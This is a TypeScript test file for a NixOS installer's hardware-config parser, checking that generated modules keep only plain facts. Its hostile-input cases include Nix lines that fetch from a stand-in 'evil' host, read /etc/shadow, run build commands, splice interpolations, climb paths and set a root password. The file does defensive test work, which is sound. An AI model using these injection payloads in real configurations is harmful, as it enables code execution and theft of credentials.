import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { HardwareFacts } from "#contract/hardware.ts";
import { hardwareModule, parseHardware } from "#core/install/hardware.ts";
import { hardwareAnswer } from "./machine.ts";

const splice = ["$", "{builtins.readFile ./evil}"].join("");
/** The module without its words for people. */
const bodyOf = (facts: HardwareFacts) => hardwareModule(facts).split("\n").slice(2).join("\n");

describe("what nixos-generate-config says of a laptop", () => {
  test("is read as facts", () => {
    expect(parseHardware(hardwareAnswer)).toEqual({
      facts: {
        platform: "x86_64-linux",
        availableModules: ["xhci_pci", "thunderbolt", "nvme", "usb_storage", "sd_mod"],
        initrdModules: ["dm-snapshot"],
        kernelModules: ["kvm-intel", "wl"],
        microcode: "intel",
        profiles: ["hardware/network/broadcom-43xx.nix", "installer/scan/not-detected.nix"],
        switches: ["networking.enableIntel3945ABGFirmware"],
        broadcomDriver: true,
      },
      leftOut: [],
    });
  });

  test("is written down as a module of these facts", () => {
    expect(hardwareModule(parseHardware(hardwareAnswer).facts)).toBe(
      [
        "# Written by Floppy when this machine was installed: what it told of its hardware.",
        "{ config, lib, modulesPath, ... }:",
        "{",
        '  imports = [ (modulesPath + "/hardware/network/broadcom-43xx.nix") (modulesPath + "/installer/scan/not-detected.nix") ];',
        '  boot.initrd.availableKernelModules = [ "xhci_pci" "thunderbolt" "nvme" "usb_storage" "sd_mod" ];',
        '  boot.initrd.kernelModules = [ "dm-snapshot" ];',
        '  boot.kernelModules = [ "kvm-intel" "wl" ];',
        "  boot.extraModulePackages = [ config.boot.kernelPackages.broadcom_sta ];",
        "  networking.enableIntel3945ABGFirmware = true;",
        "  hardware.cpu.intel.updateMicrocode = lib.mkDefault config.hardware.enableRedistributableFirmware;",
        '  nixpkgs.hostPlatform = lib.mkDefault "x86_64-linux";',
        "}",
        "",
      ].join("\n"),
    );
  });

  test("is read the same where it says nothing of what it has nothing of", () => {
    const small = `{ config, lib, pkgs, modulesPath, ... }:

{
  imports = [ ];

  boot.initrd.availableKernelModules = [ ];
  nixpkgs.hostPlatform = lib.mkDefault "aarch64-linux";
}
`;
    const { facts, leftOut } = parseHardware(small);
    expect(facts).toMatchObject({ platform: "aarch64-linux", availableModules: [], microcode: null });
    expect(leftOut).toEqual([]);
  });
});

describe("what a hostile machine says", () => {
  const said = (more: string) => hardwareAnswer.replace("boot.initrd.kernelModules", `${more}\n  $&`);

  test.each([
    ["an import of a path", "imports = [ ./evil.nix ];"],
    ["an import of what is fetched", 'imports = [ (builtins.fetchTarball "http://evil/x") ];'],
    ["an import of what is built", "imports = [ (import (pkgs.runCommand ''x'' { } ''id > $out'')) ];"],
    ["a module that is an expression", 'boot.kernelModules = [ (builtins.readFile "/etc/shadow") ];'],
    ["a module with a splice", `boot.kernelModules = [ "${splice}" ];`],
    ["a module that ends its text", 'boot.kernelModules = [ "a\\" ] ++ evil ++ [ \\"" ];'],
    ["a profile that climbs", 'imports = [ (modulesPath + "/../../../evil.nix") ];'],
    ["a setting of nobody's", 'users.users.root.password = "evil";'],
    ["a switch that is an expression", "virtualisation.hypervGuest.enable = evil true;"],
    ["an inherit", "inherit (evil) boot;"],
    ["a package of nobody's", "boot.extraModulePackages = [ config.boot.kernelPackages.evil ];"],
  ])("leaves nothing of %s", (_name, statement) => {
    const { facts, leftOut } = parseHardware(said(statement));
    expect(leftOut.length).toBeGreaterThan(0);
    expect(bodyOf(facts)).not.toMatch(/evil|builtins|readFile|runCommand|\$|\.\./);
  });

  test.each([
    ["nothing", ""],
    ["something else", "command not found"],
    ["a program of its own", "builtins.trace 1 { }"],
    ["a platform with a splice", hardwareAnswer.replace("x86_64-linux", splice)],
    ["more than any machine has to say", hardwareAnswer + " ".repeat(1e5)],
    [
      "a thousand modules",
      hardwareAnswer.replace('"nvme"', Array.from({ length: 1000 }, (_, at) => `"m${at}"`).join(" ")),
    ],
  ])("is not taken at all: %s", (_name, answer) => {
    expect(() => parseHardware(answer)).toThrow();
  });

  test("whatever it is, only words reach the module", () => {
    const piece = fc.oneof(
      fc.constantFrom(
        '"',
        "''",
        "${",
        "}",
        "[",
        "]",
        ";",
        "(",
        ")",
        "\n",
        "#",
        "/*",
        "\\",
        "imports = ",
        "evil",
      ),
      fc.string({ maxLength: 12 }),
    );
    const hostile = fc.array(piece, { maxLength: 40 }).map((pieces) => pieces.join(""));
    const names = fc.constantFrom("imports", "boot.kernelModules", "boot.extraModulePackages");
    fc.assert(
      fc.property(names, hostile, (name, text) => {
        let facts: HardwareFacts;
        try {
          ({ facts } = parseHardware(said(`${name} = [ ${text} ];`)));
        } catch {
          return;
        }
        for (const line of bodyOf(facts).split("\n"))
          expect(line).toMatch(
            /^(?:[{}]?| {2}[\w.]+ = (?:\[(?: "[\w-]+"| \(modulesPath \+ "\/[\w/.-]+"\)| [\w.]+)* \]|true|lib\.mkDefault [\w."-]+);)$/,
          );
      }),
    );
  });
});
